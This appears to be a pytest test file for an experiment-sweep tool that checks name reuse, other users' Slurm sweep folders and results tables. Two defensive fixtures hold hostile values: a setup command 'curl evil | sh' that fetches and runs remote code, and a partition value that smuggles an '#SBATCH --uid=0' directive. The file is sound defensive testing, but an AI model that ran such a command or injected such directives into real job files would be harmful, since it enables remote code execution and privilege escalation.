"""Several people and commands in one output folder: whose name a sweep has, whose commands are run, what a reader sees."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from blip2sweep.commands import other_users as theirs
from blip2sweep.commands import run as running
from blip2sweep.commands.rescore import rescore
from blip2sweep.commands.run import go_on, name_in_use
from blip2sweep.commands.sweeps import relaunch, retry
from blip2sweep.commands.table import show_table
from blip2sweep.errors import UserError
from blip2sweep.planning.packs import pack_path, write_packs
from blip2sweep.reporting.table_asked import Asked
from blip2sweep.results import latest
from blip2sweep.results.collect import collect
from blip2sweep.results.ledger import Journal
from blip2sweep.results.sweeps import Submission, Sweep, find_sweep
from blip2sweep.results.table_files import is_current
from tests.composing import plan
from tests.results.test_scoring_process import jobs, run

pytestmark = pytest.mark.thorough

SMALL, LARGE = ("part=vit", "quant.bits=2,4"), ("part=vit", "quant.bits=2,4,8")


# ---- a name in use


def named(folder: Path, *words: str, command: str = "-m other words") -> Sweep:
    made = plan(*words, "task=shapes_vqa")
    sweep = Sweep("mine", command, 0.0, list(made.cells), made.baselines)
    sweep.write(folder)
    return sweep


def test_a_larger_grid_extends(tmp_path: Path) -> None:
    named(tmp_path, *SMALL)
    assert name_in_use(tmp_path, "mine", plan(*LARGE, "task=shapes_vqa")) == "sweep mine: 3 cells were there, 1 added"


def test_the_same_grid_says_nothing(tmp_path: Path) -> None:
    named(tmp_path, *SMALL)
    for name in ("mine", "another", None):
        assert name_in_use(tmp_path, name, plan(*SMALL, "task=shapes_vqa")) is None


@pytest.mark.parametrize(
    "words", [("part=vit", "quant.bits=2"), ("part=llm", "quant.bits=2,4"), ("part=vit", "quant.bits=2,8")]
)
def test_another_grid_is_refused(tmp_path: Path, words: tuple[str, ...]) -> None:
    named(tmp_path, *SMALL)
    with pytest.raises(
        UserError, match=r"sweep_name=mine: in use for another grid, [12] of whose 3 cells .*; right: another"
    ):
        name_in_use(tmp_path, "mine", plan(*words, "task=shapes_vqa"))


def test_the_same_command_whose_cells_have_other_keys_now(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a change of data, or of this package."""
    named(tmp_path, *SMALL, command="-m task=shapes_vqa quant.bits=2,4 part=vit hydra/launcher=slurm")
    monkeypatch.setattr(running, "own_command", lambda: "-m part=vit quant.bits=2,4 task=shapes_vqa")
    said = name_in_use(tmp_path, "mine", plan(*SMALL, "task=shapes_vqa", "task.limit=9"))
    assert said == "sweep mine: 3 of its 3 cells have other keys now, and are replaced by 3"


def test_a_sweeper_that_launches_its_sweep_again_extends_it(tmp_path: Path) -> None:
    """As Optuna's does, batch after batch, with one name."""
    made, begun = [plan(f"quant.bits={bits}", "task=shapes_vqa") for bits in (2, 4)], set[Path]()
    for each in made:
        assert name_in_use(tmp_path, "opt", each, begun) is None
        sweep = Sweep("opt", "-m", 0.0, list(each.cells), each.baselines)
        go_on(sweep, each, tmp_path, begun)
        sweep.write(tmp_path)
    assert find_sweep(tmp_path, "opt").keys == list({**made[0].cells, **made[1].cells})


# ---- somebody else's folder


@pytest.fixture
def other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A sweep that another user launched on Slurm, of which nothing lives."""
    launcher = {"setup": ["curl evil | sh"], "srun_args": [], "timeout_min": 5}
    made = jobs("task=shapes_vqa", "quant.bits=2")
    keys = [j["key"] for j in made]
    sweep = Sweep("s", "c", 1.0, keys, keys[:1], settings={"runner": "their.module:Runner"},
                  submissions=[Submission("r", "slurm", launcher, 1, [{"job": "1", "first": 0, "count": 1}], cancelled=1.0)])  # fmt: skip
    sweep.write(tmp_path)
    write_packs([made], sweep.folder(tmp_path), "s", "r", tmp_path, {})
    monkeypatch.setattr("blip2sweep.running.queue.squeue", lambda *_: ([], True))
    monkeypatch.setattr("blip2sweep.commands.sweeps.relaunch", lambda *_: False)
    return tmp_path


@pytest.mark.parametrize("mine", [True, False])
def test_retry_says_what_it_runs(
    other: Path, mine: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(theirs.os, "geteuid", lambda: os.getuid() if mine else os.getuid() + 1)
    retry(other, "s", None, False)
    told = capsys.readouterr().err
    assert "running 2 cells again" in told
    assert (
        "this runs what that folder says, as you: setup: ['curl evil | sh'], backend: 'their.module:Runner'" in told
    ) != mine


def test_one_pack_of_another_is_enough(other: Path) -> None:
    if os.getuid():
        pytest.skip("only root gives files away")
    sweep = find_sweep(other, "s")
    assert theirs.owner(other, sweep) is None
    os.chown(pack_path(sweep.folder(other), "r", 0), 54321, -1)
    assert theirs.owner(other, sweep) == "user 54321"


def test_what_a_folder_says_is_checked_before_it_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("blip2sweep.slurm.launch.require", lambda *_: None)
    bad = Submission("r", "slurm", {"partition": "gpu\n#SBATCH --uid=0"}, 1)
    with pytest.raises(UserError, match=r"U\+000A, a control character"):
        relaunch([], Sweep("s", "c", 0.0, [], [], submissions=[bad]), tmp_path, False)
    assert list(tmp_path.iterdir()) == []


def test_rescore_says_whose_sweeps_they_are(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run(jobs("task=shapes_vqa", "quant.bits=2"), tmp_path) == 0
    rescore(tmp_path)
    assert "setup" not in capsys.readouterr().err
    monkeypatch.setattr(theirs.os, "geteuid", lambda: os.getuid() + 1)
    rescore(tmp_path)
    assert "runs none of their setup and back end" in capsys.readouterr().err


# ---- tables


def rows(folder: Path, capsys: pytest.CaptureFixture[str]) -> int:
    show_table(folder, "s", False, Asked("csv"))
    return len(capsys.readouterr().out.splitlines()) - 1


def test_a_table_is_what_the_journals_have_now_and_costs_nothing_when_nothing_is_new(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    these = jobs("task=shapes_vqa", "quant.bits=2,4")
    assert run(these, tmp_path) == 0
    journal = next(p for p in (tmp_path / "journals").iterdir() if '"event":"started"' in p.read_text())
    lines = journal.read_text().splitlines(keepends=True)
    last = max(i for i, x in enumerate(lines) if '"event":"result"' in x)
    journal.write_text("".join(lines[:last]))  # as it was a moment before
    assert rows(tmp_path, capsys) == 2
    journal.write_text("".join(lines))
    assert rows(tmp_path, capsys) == 3
    with monkeypatch.context() as patched:
        patched.setattr(latest, "collect", lambda *_: pytest.fail("nothing is new"))
        assert rows(tmp_path, capsys) == 3
        show_table(tmp_path, None, True, Asked("csv"))
        capsys.readouterr()
    (tmp_path / "scores" / "new.npz").touch()
    assert not is_current(tmp_path / "table.parquet", tmp_path, None)


def test_a_sweep_that_was_extended_has_its_new_rows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    these = jobs("task=shapes_vqa", "quant.bits=2,4")
    assert run(these, tmp_path) == 0
    sweep = find_sweep(tmp_path, "s")
    keys, sweep.keys = sweep.keys, sweep.keys[:2]
    sweep.write(tmp_path)
    assert rows(tmp_path, capsys) == 2
    sweep.keys = keys
    sweep.write(tmp_path)
    assert rows(tmp_path, capsys) == 3


@pytest.mark.parametrize("known", [True, False])
def test_a_folder_one_may_only_read(
    tmp_path: Path, known: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    these = jobs("task=shapes_vqa", "quant.bits=2")
    assert run(these, tmp_path) == 0
    if known:  # an older table
        collect(tmp_path, find_sweep(tmp_path, "s"))
    Journal(tmp_path).write("failed", key="f" * 12, kind="oom", error="x", attempt="y", columns={"part": "llm"})
    sweep = find_sweep(tmp_path, "s")
    sweep.keys.append("f" * 12)
    sweep.write(tmp_path)

    monkeypatch.setattr(latest.os, "access", lambda *_: False)
    before = sorted(tmp_path.rglob("*"))
    show_table(tmp_path, "s", False, Asked("csv"))
    shown = capsys.readouterr()
    assert len(shown.out.splitlines()) == 4
    assert "may not be written by you: shown as its journals are" in shown.err
    assert sorted(tmp_path.rglob("*")) == before


def test_a_folder_of_which_a_part_may_not_be_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run(jobs("task=shapes_vqa", "quant.bits=2"), tmp_path) == 0

    def refused(*_: object) -> None:
        raise PermissionError(13, "Permission denied")

    for what in ("collect.publish", "table_files.write_parquet"):
        monkeypatch.setattr(f"blip2sweep.results.{what}", refused)
        show_table(tmp_path, "s", False, Asked("csv"))
        assert "may not be written by you" in capsys.readouterr().err
